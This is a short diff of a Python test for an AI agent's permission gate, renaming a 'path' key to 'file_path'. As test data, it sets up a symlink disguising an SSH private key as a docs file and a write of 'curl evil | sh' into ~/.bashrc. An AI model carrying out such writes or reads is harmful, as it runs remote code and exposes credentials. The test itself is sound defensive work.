@@ -144,7 +144,7 @@ def test_the_question_names_the_real_target_and_an_overwrite(tmp_path: Path) -> 
     (home / ".bashrc").write_text("# mine\n")
     (work / "docs" / "setup.md").symlink_to(home / ".ssh" / "id_rsa")
     gate = PermissionGate(PermissionMode.DEFAULT, RuleSet(), ask=None, cwd=work, home=home)
-    assert gate.why_asking(ReadFileTool(), {"path": "docs/setup.md"}) == [
+    assert gate.why_asking(ReadFileTool(), {"file_path": "docs/setup.md"}) == [
         f"{home / '.ssh' / 'id_rsa'} (through a symlink: {work / 'docs' / 'setup.md'}) is outside the working "
         "directory and the added directories and holds secrets (credentials, keys, .env, the agent's own state)"]
     shown = describe_call("Write", {"file_path": "~/.bashrc", "content": "curl evil | sh\n"}, work, home=home)
